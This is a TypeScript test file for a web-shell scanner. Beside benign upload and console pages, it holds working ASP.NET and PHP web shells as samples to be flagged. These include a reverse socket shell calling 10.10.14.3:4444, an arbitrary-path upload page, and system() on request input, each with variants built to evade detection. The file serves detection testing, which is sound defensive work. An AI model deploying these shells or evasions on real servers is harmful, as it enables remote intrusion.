import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 30's second red team (bench/redteam/README-s30.md, S30B): the widened upload, socket-shell,
// pseudo-terminal and joined-call rules, and long expressions in the flow pass. Its false positives and
// evasions as it wrote them; the ASP.NET variants made here from its base pages by the line each changes.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

const BENIGN_S30B: [string, string, string][] = [
  ['S30B-1: a document handler that saves uploads under a cleaned name and serves files read-only', '/www/filehandler.ashx', `<%@ WebHandler Language="C#" Class="FileHandler" %>
using System;
using System.IO;
using System.Web;

// Simple document library handler: uploads go into ~/App_Data/docs, downloads are served from the site.
public class FileHandler : IHttpHandler {
    public void ProcessRequest(HttpContext context) {
        var Request = context.Request;
        var Response = context.Response;
        if (Request.HttpMethod == "POST") {
            HttpPostedFile f = Request.Files["doc"];
            string safe = Path.GetFileName(f.FileName);
            if (!safe.EndsWith(".pdf", StringComparison.OrdinalIgnoreCase)) { Response.StatusCode = 400; return; }
            f.SaveAs(Path.Combine(context.Server.MapPath("~/App_Data/docs"), safe));
            Response.Write("{\\"ok\\":true}");
            return;
        }
        // GET: stream a document back
        Response.ContentType = "application/pdf";
        using (var fs = File.Open(context.Server.MapPath(Request.QueryString["file"]), FileMode.Open, FileAccess.Read)) {
            fs.CopyTo(Response.OutputStream);
        }
    }
    public bool IsReusable { get { return false; } }
}
`],
  ['S30B-2: an attachments page: downloads opened for reading, uploads saved under a GUID', '/www/download.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
// attachments page: list, upload (to fixed folder), and download attachments
protected void Upload_Click(object sender, EventArgs e) {
    if (Request.Files.Count == 0) return;
    var up = Request.Files[0];
    up.SaveAs(Server.MapPath("~/attachments/") + Guid.NewGuid().ToString("N") + ".bin");
}
protected void Page_Load(object sender, EventArgs e) {
    if (Request.QueryString["dl"] != null) {
        Response.ContentType = "application/octet-stream";
        Response.AddHeader("Content-Disposition", "attachment; filename=file.bin");
        using (FileStream fs = new FileStream(Server.MapPath(Request.QueryString["dl"]), FileMode.Open, FileAccess.Read)) {
            fs.CopyTo(Response.OutputStream);
        }
        Response.End();
    }
}
</script>
<form runat="server" enctype="multipart/form-data"><input type="file" name="a"><asp:Button runat="server" OnClick="Upload_Click" Text="Upload"/></form>
`],
  ['S30B-3: fixed diagnostics sent to a log collector, its acknowledgements read in a loop', '/www/diagpush.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
// Admin: run the fixed diagnostics set and ship the output to the central log collector (line protocol,
// the collector answers "ACK <n>" per record and "BYE" at the end).
static readonly string[] Checks = { "ipconfig /all", "netstat -an", "tasklist /v", "wmic logicaldisk get size,freespace" };
void Page_Load(object sender, EventArgs e) {
    if (!User.IsInRole("Administrators")) { Response.StatusCode = 403; return; }
    using (var client = new TcpClient("logs.corp.local", 5140)) {
        var ns = client.GetStream();
        var reader = new StreamReader(ns);
        var writer = new StreamWriter(ns) { AutoFlush = true };
        foreach (var check in Checks) {
            var psi = new ProcessStartInfo("cmd.exe", "/c " + check);
            psi.UseShellExecute = false;
            psi.RedirectStandardOutput = true;
            using (var p = Process.Start(psi)) {
                string output = p.StandardOutput.ReadToEnd();
                p.WaitForExit();
                writer.WriteLine(output);
            }
        }
        string ack;
        while ((ack = reader.ReadLine()) != null) {
            Response.Write(Server.HtmlEncode(ack) + "<br/>");
            if (ack == "BYE") break;
        }
    }
}
</script>
`],
  ['S30B-4: a lesson page with a pretend terminal over a tree kept in the session', '/www/learn-shell.php', `<?php
// "Learn the shell" lesson page: a pretend terminal over a virtual file tree kept in the session.
// Nothing touches the real disk except the lesson's progress file, removed on reset.
session_start();
chdir(__DIR__);
$progress = getcwd() . '/progress/' . session_id() . '.json';
if (!isset($_SESSION['tree'])) {
    $_SESSION['tree'] = ['/' => ['home' => [], 'etc' => ['motd' => 'Welcome!']]];
    $_SESSION['pwd'] = '/';
}
$input = isset($_POST['line']) ? trim($_POST['line']) : '';
list($word, $rest) = array_pad(explode(' ', $input, 2), 2, '');
$answer = '';
if ($word === 'help') {
    $answer = 'Try: ls, cd, pwd, cat, mkdir, rm, reset';
} elseif ($word === 'ls') {
    $answer = implode('  ', array_keys(lesson_node($_SESSION['tree'], $_SESSION['pwd'])));
} elseif ($word === 'cd') {
    $_SESSION['pwd'] = lesson_resolve($_SESSION['pwd'], $rest);
} elseif ($word === 'pwd') {
    $answer = $_SESSION['pwd'];
} elseif ($word === 'cat') {
    $answer = lesson_read($_SESSION['tree'], $_SESSION['pwd'], $rest);
} elseif ($word === 'mkdir') {
    lesson_mkdir($_SESSION['tree'], $_SESSION['pwd'], $rest);
    $answer = 'Well done! Lesson 3 complete.';
} elseif ($word === 'rm') {
    lesson_rm($_SESSION['tree'], $_SESSION['pwd'], $rest);
} elseif ($word === 'reset') {
    session_destroy();
    if (is_file($progress)) unlink($progress);
    $answer = 'Lesson reset.';
} else {
    $answer = htmlspecialchars($word) . ': command not found (this is a lesson, try help)';
}
file_put_contents($progress, json_encode(['step' => $word]));
header('Content-Type: application/json');
echo json_encode(['out' => $answer, 'pwd' => $_SESSION['pwd']]);

function lesson_node($tree, $pwd) { $n = $tree['/']; foreach (array_filter(explode('/', $pwd)) as $p) { $n = isset($n[$p]) && is_array($n[$p]) ? $n[$p] : []; } return $n; }
function lesson_resolve($pwd, $to) { if ($to === '' ) return '/'; if ($to[0] === '/') return $to; return rtrim($pwd, '/') . '/' . $to; }
function lesson_read($tree, $pwd, $name) { $n = lesson_node($tree, $pwd); return isset($n[$name]) && is_string($n[$name]) ? $n[$name] : 'cat: no such file'; }
function lesson_mkdir(&$tree, $pwd, $name) { $ref = &$tree['/']; foreach (array_filter(explode('/', $pwd)) as $p) { $ref = &$ref[$p]; } $ref[$name] = []; }
function lesson_rm(&$tree, $pwd, $name) { $ref = &$tree['/']; foreach (array_filter(explode('/', $pwd)) as $p) { $ref = &$ref[$p]; } unset($ref[$name]); }
`],
  ['S30B-5: a maintenance console for the command line (readline, refuses the web)', '/www/storage-shell.php', `#!/usr/bin/env php
<?php
// bin/storage-shell.php: interactive maintenance shell for the media storage (CLI only).
if (PHP_SAPI !== 'cli' || isset($_SERVER['HTTP_HOST'])) { http_response_code(404); exit; }
$root = realpath(__DIR__ . '/../storage/media');
chdir($root);
echo "media storage shell, type help\\n";
while (($line = readline('storage> ')) !== false) {
    $line = trim($line);
    if ($line === '') continue;
    readline_add_history($line);
    [$cmd, $arg] = array_pad(preg_split('/\\s+/', $line, 2), 2, '');
    if ($cmd === 'ls') {
        foreach (scandir($arg ?: '.') as $f) echo $f, "\\n";
    } elseif ($cmd === 'cd') {
        $to = realpath($arg);
        if ($to && strpos($to, $root) === 0) chdir($to); else echo "outside storage\\n";
    } elseif ($cmd === 'pwd') {
        echo substr(getcwd(), strlen($root)) ?: '/', "\\n";
    } elseif ($cmd === 'cat') {
        readfile($arg);
    } elseif ($cmd === 'rm') {
        unlink($arg);
    } elseif ($cmd === 'mkdir') {
        mkdir($arg, 0755, true);
    } elseif ($cmd === 'exit' || $cmd === 'quit') {
        break;
    } else {
        echo "commands: ls cd pwd cat rm mkdir exit\\n";
    }
}
`],
];
const UPLOAD = `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  if (Request.Files.Count > 0) {
    Request.Files[0].SaveAs(Request.Form["p"]);
    Response.Write("ok");
  }
}
</script>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input name="p"><input type="submit"></form>
`;
const SOCKET = `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  using (var c = new TcpClient("10.10.14.3", 4444)) {
    var ns = c.GetStream(); var r = new StreamReader(ns); var w = new StreamWriter(ns); w.AutoFlush = true;
    string line;
    while ((line = r.ReadLine()) != null) {
      var p = new Process();
      p.StartInfo.FileName = "cmd.exe";
      p.StartInfo.Arguments = "/c " + line;
      p.StartInfo.UseShellExecute = false;
      p.StartInfo.RedirectStandardOutput = true;
      p.Start();
      w.Write(p.StandardOutput.ReadToEnd());
    }
  }
}
</script>
`;

// [what, the text replaced, its replacement]
const UPLOAD_VARIANTS: [string, string, string][] = [
  ['S30B-6: by index', 'Request.Form["p"]', 'Request.Form[0]'],
  ['S30B-6: Get by index', 'Request.Form["p"]', 'Request.Form.Get(0)'],
  ['S30B-6: GetValues', 'Request.Form["p"]', 'Request.Form.GetValues("p")[0]'],
  ['S30B-6: ToString', 'Request.Form["p"]', 'Request.Form["p"].ToString()'],
  ['S30B-6: a cast', 'Request.Form["p"]', '(string)Request.Form["p"]'],
  ['S30B-6: "" +', 'Request.Form["p"]', '"" + Request.Form["p"]'],
  ['S30B-6: ??', 'Request.Form["p"]', 'Request.Form["p"] ?? "x"'],
  ['S30B-6: string.Format', 'Request.Form["p"]', 'string.Format("{0}", Request.Form["p"])'],
  ['S30B-6: a named argument', 'Request.Form["p"]', 'filename: Request.Form["p"]'],
  ['S30B-6: an interpolated string', 'Request.Form["p"]', '$"{Request.Form["p"]}"'],
  ['S30B-7: Page.Request', 'Request.Form["p"]', 'Page.Request.Form["p"]'],
  ['S30B-7: System.Web.HttpContext.Current.Request', 'Request.Form["p"]', 'System.Web.HttpContext.Current.Request.Form["p"]'],
  ['S30B-7: Request.Unvalidated', 'Request.Form["p"]', 'Request.Unvalidated.Form["p"]'],
  ['S30B-8: new FileInfo(..).Create()', 'Request.Files[0].SaveAs(Request.Form["p"]);', 'using (var fs = new FileInfo(Request.Form["p"]).Create()) Request.Files[0].InputStream.CopyTo(fs);'],
  ['S30B-9: saved, then copied', 'Request.Files[0].SaveAs(Request.Form["p"]);', 'Request.Files[0].SaveAs(Server.MapPath("~/t.tmp")); File.Copy(Server.MapPath("~/t.tmp"), Request.Form["p"], true);'],
  ['S30B-9: saved, then moved', 'Request.Files[0].SaveAs(Request.Form["p"]);', 'Request.Files[0].SaveAs(Server.MapPath("~/t.tmp")); File.Move(Server.MapPath("~/t.tmp"), Request.Form["p"]);'],
];
const SOCKET_VARIANTS: [string, string, string][] = [
  ['S30B-10: the line as the arguments', '"/c " + line', 'line'],
  ['S30B-10: Insert', '"/c " + line', 'line.Insert(0, "/c ")'],
  ['S30B-10: string.Join', '"/c " + line', 'string.Join(" ", "/c", line)'],
  ['S30B-10: in brackets', '"/c " + line', '"/c " + (line)'],
  ['S30B-10: PowerShell -nop -c', 'p.StartInfo.FileName = "cmd.exe";\n      p.StartInfo.Arguments = "/c " + line;', 'p.StartInfo.FileName = "powershell";\n      p.StartInfo.Arguments = "-nop -c " + line;'],
  ['S30B-11: the output through a variable', 'w.Write(p.StandardOutput.ReadToEnd());', 'var o = p.StandardOutput; w.Write(o.ReadToEnd());'],
  ['S30B-11: the output line by line', 'w.Write(p.StandardOutput.ReadToEnd());', 'string l2; while ((l2 = p.StandardOutput.ReadLine()) != null) w.WriteLine(l2);'],
  ['S30B-11: "" + the output', 'w.Write(p.StandardOutput.ReadToEnd());', 'w.Write("" + p.StandardOutput.ReadToEnd());'],
  ['S30B-12: for (;;)', 'while ((line = r.ReadLine()) != null) {', 'for (;;) {\n      line = r.ReadLine(); if (line == null) break;'],
  ['S30B-12: while (!r.EndOfStream)', 'while ((line = r.ReadLine()) != null) {', 'while (!r.EndOfStream) {\n      line = r.ReadLine();'],
  ['S30B-12: a line break in the condition', 'while ((line = r.ReadLine()) != null) {', 'while ((line = r\n              .ReadLine()) != null) {'],
];
// [what, path, the file]
const PHP: [string, string, string][] = [
  ['S30B-14: null . 200 times before the input', '/www/null200.php', `<?php
$c = null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . $_GET['c'];
system($c);
`],
  ['S30B-14: . null 200 times after the input', '/www/nullafter.php', `<?php
$c = $_GET['c'] . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null . null;
system($c);
`],
  ['S30B-14: false . repeated', '/www/falsec.php', `<?php
$c = false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . false . $_GET['c'];
system($c);
`],
  ['S30B-14: trim of an empty literal, repeated', '/www/trim200.php', `<?php
$c = trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . trim('') . $_GET['c'];
system($c);
`],
  ['S30B-15: an element of an array literal picked at once', '/www/idx1.php', `<?php
$c = [0, $_GET['c']][1];
system($c);
`],
  ['S30B-15: a condition inside a condition', '/www/tern1.php', `<?php
$c = 1 ? 1 ? $_GET['c'] : 0 : 0;
system($c);
`],
  ['S30B-13: the pieces as keys', '/www/keys.php', `<?php
$p = ["sy"=>1,"st"=>2,"em"=>3]; implode("", array_keys($p))($_GET["c"]);
`],
  ['S30B-13: the pieces sliced', '/www/slice.php', `<?php
$p = ["s","y","s","t","e","m","x"]; implode("", array_slice($p, 0, 6))($_GET["c"]);
`],
  ['S30B-13: the pieces mapped by trim', '/www/arrmap.php', `<?php
$p = ["s","y","s","t","e","m"]; implode("", array_map("trim", $p))($_GET["c"]);
`],
  ['S30B-13: a reversed string split', '/www/str.php', `<?php
$p = "metsys"; implode("", array_reverse(str_split($p)))($_GET["c"]);
`],
  ['S30B-13: the pieces spread into an array', '/www/spread.php', `<?php
$p = ["s","y","s","t","e","m"]; implode("", [...$p])($_GET["c"]);
`],
  ['S30B-13: sprintf of %s pieces', '/www/sprintf.php', `<?php
$p = ["s","y","s","t","e","m"]; sprintf(str_repeat("%s", 6), ...$p)($_GET["c"]);
`],
  ['S30B-13: vsprintf of the pieces', '/www/vsprintf.php', `<?php
$p = ["s","y","s","t","e","m"]; vsprintf("%s%s%s%s%s%s", $p)($_GET["c"]);
`],
  ['S30B-13: pieces of four letters and more', '/www/long.php', `<?php
$p = ["syst","em"]; implode("", $p)($_GET["c"]);
`],
];

describe('scan: session 30\'s second red team (S30B)', () => {
  for (const [name, path, src] of BENIGN_S30B) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  for (const [name, from, to] of UPLOAD_VARIANTS) {
    it(`malicious: an upload saved where the request says, ${name}`, () => {
      assert.ok(UPLOAD.includes(from), from);
      const r = scan(UPLOAD.replace(from, to), '/www/up.aspx');
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === 'mamori_aspx_upload_to_request_path'), JSON.stringify(r.findings));
    });
  }
  for (const [name, from, to] of SOCKET_VARIANTS) {
    it(`malicious: a socket shell, ${name}`, () => {
      assert.ok(SOCKET.includes(from), from);
      const r = scan(SOCKET.replace(from, to), '/www/s.aspx');
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === 'mamori_aspx_socket_shell'), JSON.stringify(r.findings));
    });
  }
  it('S30B-18: the socket shell padded with runs of 31 to 95 spaces or newlines between its tokens', () => {
    for (const [unit, k] of [[' ', 31], [' ', 60], [' ', 95], ['\n', 40], ['\r\n', 90]] as [string, number][]) {
      const pad = unit.repeat(Math.ceil(k / unit.length));
      // (each token of the code, a literal whole, followed by the padding)
      const tokens = /@"(?:[^"]|"")*"|"(?:\\.|[^"\\\n])*"|'(?:\\.|[^'\\\n])*'|[A-Za-z_]\w*|\d+|==|!=|&&|\|\||\+\+|--|\+=|=>|<=|>=|\S/g;
      const padded = SOCKET.replace(/<script runat="server">([\s\S]*)<\/script>/, (_all, code: string) => `<script runat="server">\n${(code.match(tokens) ?? []).join(pad)}</script>`);
      const r = scan(padded, '/www/s.aspx');
      assert.equal(r.verdict, 'malicious', `${JSON.stringify(unit)} x ${k}: ${JSON.stringify(r.findings)}`);
    }
  });
  for (const [name, path, src] of PHP) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('ran every case', () => {
    assert.equal(BENIGN_S30B.length, 5);
    assert.equal(UPLOAD_VARIANTS.length, 16);
    assert.equal(SOCKET_VARIANTS.length, 11);
    assert.equal(PHP.length, 14);
  });
});
